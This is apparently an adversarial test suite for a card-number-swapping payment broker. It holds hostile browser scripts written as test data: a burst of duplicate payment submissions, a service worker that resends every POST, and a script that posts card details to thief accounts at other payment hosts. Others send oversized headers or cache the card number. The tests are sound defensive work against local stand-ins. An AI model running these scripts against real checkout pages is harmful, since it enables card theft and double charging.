"""A page that pays many times, or so that nobody can read it: the real card goes out once, to the account it is for, or not at all."""

from __future__ import annotations

import asyncio
import base64

import pytest
from aiohttp import web

from broker.client import Outcome
from broker.demo.evidence import NumberSearch
from broker.egress.taught import write_taught
from tests.adversary.surrogate_stack import Hostile
from tests.browser.surrogate import TAUGHT
from tests.unit.egress.values import taught_as

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(240),
    pytest.mark.xdist_group("adversary-surrogate"),
    pytest.mark.asyncio(loop_scope="session"),
]

ALL_AT_ONCE = """async () => {
  const body = () => new URLSearchParams(new FormData(document.forms[0])), sent = { method: "POST", credentials: "include" };
  const request = new XMLHttpRequest();
  const xhr = new Promise((done) => { request.onloadend = done; request.open("POST", "/pay"); request.send(body()); });
  navigator.sendBeacon("/pay", body());
  const frame = Object.assign(document.createElement("iframe"), { name: "hidden" });
  document.body.append(frame);
  const form = document.forms[0].cloneNode(true);
  [...document.forms[0].elements].forEach((field, at) => { form.elements[at].value = field.value; });
  Object.assign(form, { target: "hidden", hidden: true });
  document.body.append(form);
  const framed = new Promise((done) => { frame.onload = done; });
  form.submit();
  await Promise.allSettled([xhr, framed, ...[1, 2, 3].map(() => fetch("/pay", { ...sent, body: body() }))]);
  return performance.getEntriesByType("resource").filter(({ name }) => name.endsWith("/pay")).length;
}"""
TWICE = """self.addEventListener("install", () => skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.method === "POST") event.respondWith((async () => {
    const again = event.request.clone();
    const answer = await fetch(event.request);
    await fetch(again).catch(() => undefined);
    return answer;
  })());
});"""
REGISTER = """async () => { await navigator.serviceWorker.register("/twice.js"); await navigator.serviceWorker.ready;
  if (!navigator.serviceWorker.controller) await new Promise((done) => { navigator.serviceWorker.oncontrollerchange = done; }); }"""
LEAVE = "navigator.serviceWorker.ready.then((registration) => registration.unregister())"
COMPRESSED = """async () => {
  const plain = new Blob([new URLSearchParams(new FormData(document.forms[0])).toString()]);
  const body = await new Response(plain.stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
  const headers = { "Content-Type": "application/x-www-form-urlencoded", "Content-Encoding": "gzip" };
  return (await fetch("/pay", { method: "POST", headers, body })).text(); }"""
SEND = """() => fetch("/pay", { method: "POST", body: new URLSearchParams(new FormData(document.forms[0])) })
    .then((answer) => answer.text())"""
UNFIT = {
    "method": "fetch('/pay', { method: 'FOO-BAR', body: card() })",
    "address": "fetch('/pay?' + 'x'.repeat(9_000), { method: 'POST', body: card() })",
    "header": "fetch('/pay', { method: 'POST', body: card(), headers: { 'x-page': 'x'.repeat(17_000) } })",
    "many headers": """fetch('/pay', { method: 'POST', body: card(),
      headers: Object.fromEntries(Array.from({ length: 120 }, (_, at) => ['x-' + at, 'x'])) })""",
    "large headers and body": """fetch('/pay', { method: 'POST', body: card() + ' '.repeat(3_900_000),
      headers: Object.fromEntries(Array.from({ length: 60 }, (_, at) => ['x-' + at, 'x'.repeat(15_000)])) })""",
}
"""Requests with the stand-in that no message can carry: the page's own method, address and headers."""
CARD = "() => { globalThis.card = () => new URLSearchParams(new FormData(document.forms[0])).toString(); }"
FRAME_OF_NO_NAME = """(url) => new Promise((done) => { const frame = document.createElement("iframe");
    Object.assign(frame, { src: url, onload: done, width: 400, height: 500 }); document.body.append(frame); })"""
ELSEWHERE = """([url, fields]) => fetch(url, { method: "POST", body: new URLSearchParams(fields) })
    .then((answer) => answer.text(), () => "failed")"""


async def test_of_many_payments_at_once_one_carries_the_number(hostile: Hostile) -> None:
    paying, merchant = await hostile.surrogate.paying(page=await hostile.checkout()), hostile.merchant
    tried = await paying.page.evaluate(ALL_AT_ONCE)
    ended = await paying.ended()
    assert ended.outcome in (Outcome.SUBMITTED, Outcome.MAY_HAVE_BEEN_CHARGED)
    assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"]
    assert len(merchant.bodies_with(paying.stand_in)) == len(merchant.got) - 1, "the others failed, or went out with the stand-in"
    assert tried > 1, "there were others"


async def test_a_service_worker_that_sends_twice_pays_once(hostile: Hostile) -> None:
    merchant, page = hostile.merchant, await hostile.checkout()
    merchant.scripts["/twice.js"] = TWICE
    await page.evaluate(REGISTER)
    paying = await hostile.surrogate.paying(page=page)
    try:
        await paying.press_pay()
        assert (await paying.ended()).outcome is Outcome.SUBMITTED
        assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"]
        assert merchant.bodies_with(paying.stand_in) == ["shop.localhost/pay"], "the second one went out, and buys nothing"
    finally:
        await page.evaluate(LEAVE)


async def test_a_compressed_payment_is_not_swapped_and_the_outcome_says_so(hostile: Hostile) -> None:
    paying, merchant = await hostile.surrogate.paying(page=await hostile.checkout()), hostile.merchant
    assert "Thank you" in await paying.page.evaluate(COMPRESSED)
    ended = await paying.ended()
    assert ended.outcome is Outcome.SWAP_NOT_SEEN
    assert "compressed" in (ended.message or "")
    assert len(merchant.got) == 1
    assert not merchant.bodies_with(paying.number)


async def test_a_shop_that_charges_itself_is_paid_at_no_processor(hostile: Hostile) -> None:
    merchant = hostile.merchant
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    fields = {"card[number]": paying.stand_in, "card[cvc]": await paying.page.locator("[name=code]").input_value(), "key": "pk_thief"}
    for host, path in (("form-pay.localhost", "/pay/acct_thief"), ("hosted-pay.localhost", "/v1/payment_methods")):
        await paying.page.evaluate(ELSEWHERE, [merchant.url(path, host), fields])
    await paying.press_pay()
    assert (await paying.ended()).outcome is Outcome.SUBMITTED
    assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"]
    assert merchant.bodies_with(paying.stand_in) == ["form-pay.localhost/pay/acct_thief", "hosted-pay.localhost/v1/payment_methods"]


async def test_another_account_at_the_same_processor_gets_nothing(hostile: Hostile) -> None:
    merchant = hostile.merchant
    write_taught(hostile.surrogate.stage.state.egress, (taught_as("form", merchant.url("")),))
    numbers = []
    try:
        for account in ("acct_shop", "acct_thief"):
            paying = await hostile.surrogate.paying(page=await hostile.checkout())
            fields = {"card[number]": paying.stand_in, "card[cvc]": await paying.page.locator("[name=code]").input_value()}
            await paying.page.evaluate(ELSEWHERE, [merchant.url(f"/pay/{account}", "form-pay.localhost"), fields])
            numbers.append(paying.number)
            ended = await paying.ended()
    finally:
        hostile.surrogate.teach(*TAUGHT)
    assert ended.outcome is Outcome.SWAP_NOT_SEEN
    assert "another merchant account" in (ended.message or "")
    assert "ledgeros egress accounts allow" in (ended.message or "")
    assert {path for number in numbers for path in merchant.bodies_with(number)} == {"form-pay.localhost/pay/acct_shop"}
    assert not [got for got in merchant.got if got.path.endswith("acct_thief")]


def broken_channels(hostile: Hostile) -> int:
    """How often the broker has ended a browser's session because of what came through it."""
    return (hostile.world.stage.logs / "broker.log").read_text().count("broke the protocol")


@pytest.mark.parametrize("part", UNFIT)
async def test_a_request_that_no_message_can_carry_does_not_cut_the_channel(hostile: Hostile, part: str) -> None:
    before = broken_channels(hostile)
    paying, merchant = await hostile.surrogate.paying(page=await hostile.checkout()), hostile.merchant
    await paying.page.evaluate(CARD)
    await paying.page.evaluate(f"() => {UNFIT[part]}.then(() => 'answered', () => 'failed')")
    await paying.press_pay()
    assert (await paying.ended()).outcome is Outcome.SUBMITTED
    assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"]
    assert broken_channels(hostile) == before


async def test_such_a_request_alone_ends_the_release_with_the_reason(hostile: Hostile) -> None:
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    await paying.page.evaluate(CARD)
    await paying.page.evaluate(f"() => {UNFIT['method']}.then(() => 'answered', () => 'failed')")
    ended = await paying.ended()
    assert ended.outcome is Outcome.SWAP_NOT_SEEN
    assert "a method, an address or headers that no payment has" in (ended.message or "")


async def test_a_frame_whose_name_no_message_can_carry_does_not_cut_the_channel(hostile: Hostile) -> None:
    before, page = broken_channels(hostile), await hostile.checkout()
    await page.evaluate(FRAME_OF_NO_NAME, hostile.merchant.url("/checkout", "a_b.localhost"))
    paying = await hostile.surrogate.paying(page=page)
    await paying.press_pay()
    assert (await paying.ended()).outcome is Outcome.SUBMITTED
    assert broken_channels(hostile) == before


async def test_a_merchant_that_refuses_the_request_is_told_apart_in_words(hostile: Hostile) -> None:
    async def refuse(request: web.Request) -> web.Response:
        return web.Response(status=403, text='<p id="outcome">Are you a robot?</p>', content_type="text/html")

    hostile.merchant.answer = refuse
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    async with hostile.world.person.popup() as popup:
        assert "robot" in await paying.page.evaluate(SEND)
        text = await popup.wait_for_text("Refused by the shop")
    ended = await paying.ended()
    assert ended.outcome is Outcome.BLOCKED_BY_MERCHANT
    assert "refused the payment request" in (ended.message or "")
    assert "refused the payment request" in text


async def test_what_is_kept_of_an_answer_holds_the_stand_in_alone(hostile: Hostile) -> None:
    async def keep(request: web.Request) -> web.Response:
        digits = str((await request.post())["number"]).replace(" ", "")
        headers = {"Cache-Control": "public, max-age=3600", "Set-Cookie": f"card={digits}; Max-Age=3600"}
        return web.Response(
            text=f'<p id="outcome">{digits} {base64.b64encode(digits.encode()).decode()}</p>', content_type="text/html", headers=headers
        )

    hostile.merchant.answer = keep
    hostile.surrogate.new_card()
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    await paying.press_pay()
    assert (await paying.ended()).outcome is Outcome.SUBMITTED
    await paying.page.evaluate(
        """async () => { const cache = await caches.open("kept");
        await cache.put("/kept", new Response(document.body.innerHTML)); localStorage.kept = document.body.innerText; }"""
    )
    profile = hostile.world.story.browser.profile
    assert await asyncio.to_thread(NumberSearch(paying.number).files_with_it, [profile]) == []
    kept = await paying.page.evaluate("localStorage.kept")
    assert paying.stand_in in kept, "the page did keep what it was shown"
